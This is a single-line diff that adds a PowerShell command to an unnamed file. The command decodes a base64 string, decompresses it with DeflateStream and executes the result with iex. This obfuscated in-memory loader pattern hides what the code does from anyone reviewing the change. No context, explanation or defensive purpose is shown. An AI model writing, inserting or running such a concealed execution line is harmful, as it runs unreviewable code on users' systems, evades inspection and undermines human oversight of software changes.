@@ -1,0 +1,1 @@
+iex ([IO.StreamReader]::new([IO.Compression.DeflateStream]::new([IO.MemoryStream]::new([Convert]::FromBase64String('U0lWsFXwSy3X9U/KSk0uATJL9MJTk5xzMlPzSqwVVJL1XPLL83LyE1OCS4oy89I11DNKSgqs9PUT9VIrEnMLclL1C/Qr9EoqStQ1AQ==')),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()
